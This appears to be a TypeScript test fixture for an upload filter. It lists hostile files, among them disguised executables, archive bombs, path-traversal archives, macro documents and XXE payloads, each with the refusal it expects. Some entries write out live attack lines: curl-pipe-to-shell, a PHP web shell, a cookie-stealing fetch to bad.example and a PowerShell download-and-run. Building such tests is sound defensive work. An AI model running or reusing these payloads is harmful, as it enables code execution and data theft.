import { gzipSync } from "node:zlib";
import { compound, elf, hex, join, latin, mz, zip } from "./bytes";
import { type HostileSpec, refused, taken } from "./types";

const office = (...names: readonly string[]) =>
  zip(Object.fromEntries(["[Content_Types].xml", ...names].map((n) => [n, "<x/>"])));
const tar = () => {
  const head = Buffer.alloc(512);
  head.write("../../etc/cron.d/x");
  head.write("ustar\x0000", 257, "latin1");
  return join(head, Buffer.alloc(1024));
};

/** Programs, scripts, archives, macros: refused, each with its reason. */
// biome-ignore format: one file a line
export const PROGRAMS: readonly HostileSpec[] = [
  { id: "exe", name: "退款单.exe", bytes: mz, expect: [refused("program")] },
  { id: "exe-as-png", name: "聊天截图.png", bytes: mz, expect: [refused("program")] },
  { id: "exe-rtl", name: "聊天记录\u202egnp.exe", bytes: mz, expect: [refused("program")] },
  { id: "exe-double", name: "录音.m4a.exe", bytes: mz, expect: [refused("program")] },
  { id: "elf", name: "call", bytes: elf, expect: [refused("program")] },
  { id: "elf-as-mp3", name: "call.mp3", bytes: elf, expect: [refused("program")] },
  { id: "mach-o", name: "shot.jpg", bytes: () => hex("cffaedfe 07000001 03000000 02000000 10000000"), expect: [refused("program")] },
  { id: "shell", name: "export.txt", bytes: () => Buffer.from("#!/bin/sh\ncurl http://bad.example/x | sh\n"), expect: [refused("program")] },
  { id: "python", name: "export.csv", bytes: () => Buffer.from("#!/usr/bin/env python3\nimport os\nos.system('id')\n"), expect: [refused("program")] },
  { id: "batch", name: "打开看.txt", bytes: () => Buffer.from("@echo off\r\ndel /q *.*\r\n"), expect: [refused("program")] },
  { id: "php", name: "photo.jpg", bytes: () => Buffer.from("<?php system($_GET['c']); ?>"), expect: [refused("program")] },
  { id: "registry", name: "a.reg", bytes: () => Buffer.from("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"), expect: [refused("program")] },
  { id: "shortcut", name: "合同.lnk", bytes: () => join(hex("4c000000 01140200 00000000 c0000000 00000046"), Buffer.alloc(80)), expect: [refused("program")] },
  { id: "internet-shortcut", name: "投诉.url", bytes: () => Buffer.from("[InternetShortcut]\r\nURL=file://bad.example/x.exe\r\n"), expect: [refused("program")] },
  { id: "desktop-entry", name: "note.desktop", bytes: () => Buffer.from("[Desktop Entry]\nType=Application\nExec=sh -c id\n"), expect: [refused("program")] },
  { id: "java-class", name: "a.png", bytes: () => hex("cafebabe 00000034 001d 0a0006000f"), expect: [refused("program")] },
  { id: "jar", name: "viewer.zip", bytes: () => zip({ "META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x" }), expect: [refused("program")] },
  { id: "apk", name: "客服.apk", bytes: () => zip({ "AndroidManifest.xml": "x", "classes.dex": "dex\n035" }), expect: [refused("program")] },
  { id: "wasm", name: "a.wav", bytes: () => hex("0061736d 01000000 0000"), expect: [refused("program")] },
  { id: "flash", name: "a.mp4", bytes: () => join(latin("CWS\x0a\x40\0\0\0"), Buffer.alloc(80)), expect: [refused("program")] },
  { id: "installer", name: "setup.doc", bytes: () => join(compound("Root Entry"), hex("84100c0000000000c000000000000046")), expect: [refused("program")] },
  { id: "zip", name: "证据.zip", bytes: () => zip({ "截图.png": "x" }), expect: [refused("archive")] },
  { id: "zip-bomb", name: "全部截图.zip", bytes: () => zip({ "0.bin": Buffer.alloc(100 * 1024 * 1024) }), expect: [refused("archive")] },
  { id: "zip-slip", name: "a.zip", bytes: () => zip({ "../../../../tmp/x.sh": "id" }), expect: [refused("archive")] },
  { id: "zip-as-png", name: "截图.png", bytes: () => zip({ "x.txt": "x" }), expect: [refused("archive")] },
  { id: "tar", name: "a.txt", bytes: tar, expect: [refused("archive")] },
  { id: "gzip-bomb", name: "a.json", bytes: () => gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }), expect: [refused("archive")] },
  { id: "svgz", name: "a.svg", bytes: () => gzipSync("<svg onload='alert(1)'/>"), expect: [refused("archive")] },
  { id: "rar", name: "a.jpg", bytes: () => latin("Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5\x0a\x01"), expect: [refused("archive")] },
  { id: "7z", name: "a.pdf", bytes: () => hex("377abcaf271c 0004 5bd5f5b1 0000000000000000"), expect: [refused("archive")] },
  { id: "xz", name: "a.txt", bytes: () => hex("fd377a585a00 0004 e6d6b446"), expect: [refused("archive")] },
  { id: "disk-image", name: "a.mp4", bytes: () => join(Buffer.alloc(32_769), "CD001", Buffer.alloc(4096)), expect: [refused("archive")] },
  { id: "docm", name: "投诉信.docm", bytes: () => office("word/document.xml", "word/vbaProject.bin"), expect: [refused("macro")] },
  { id: "docm-as-docx", name: "投诉信.docx", bytes: () => office("word/document.xml", "word/vbaProject.bin"), expect: [refused("macro")] },
  { id: "xlsm", name: "账单.csv", bytes: () => office("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), expect: [refused("macro")] },
  { id: "old-doc-macro", name: "投诉信.doc", bytes: () => compound("Root Entry", "Macros", "_VBA_PROJECT"), expect: [refused("macro")] },
  { id: "docx", name: "投诉信.docx", bytes: () => office("word/document.xml"), expect: [refused("not_allowed_type")] },
  { id: "old-doc", name: "a.doc", bytes: () => compound("Root Entry", "WordDocument"), expect: [refused("not_allowed_type")] },
  { id: "rtf-object", name: "a.rtf", bytes: () => Buffer.from("{\\rtf1{\\object\\objocx\\objdata 01050000}}"), expect: [refused("not_allowed_type")] },
  { id: "postscript", name: "a.pdf", bytes: () => Buffer.from("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"), expect: [refused("not_allowed_type")] },
  { id: "xxe", name: "a.xml", bytes: () => Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), expect: [refused("not_allowed_type")] },
  { id: "billion-laughs", name: "a.html", bytes: () => Buffer.from(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${[..."bcdefgh"].map((c) => `<!ENTITY ${c} "${`&${String.fromCharCode(c.charCodeAt(0) - 1)};`.repeat(10)}">`).join("")}]><l>&h;</l>`), expect: [refused("not_allowed_type")] },
  { id: "sqlite", name: "微信备份.json", bytes: () => join("SQLite format 3\0", Buffer.alloc(200)), expect: [refused("not_allowed_type")] },
  { id: "javascript", name: "聊天.js", bytes: () => Buffer.from("fetch('https://bad.example/'+document.cookie)\n"), expect: [taken("txt", false)] },
  { id: "powershell", name: "a.ps1", bytes: () => Buffer.from("Invoke-WebRequest http://bad.example/x -OutFile x; Start-Process x\n"), expect: [taken("txt", false), refused("program")] },
];
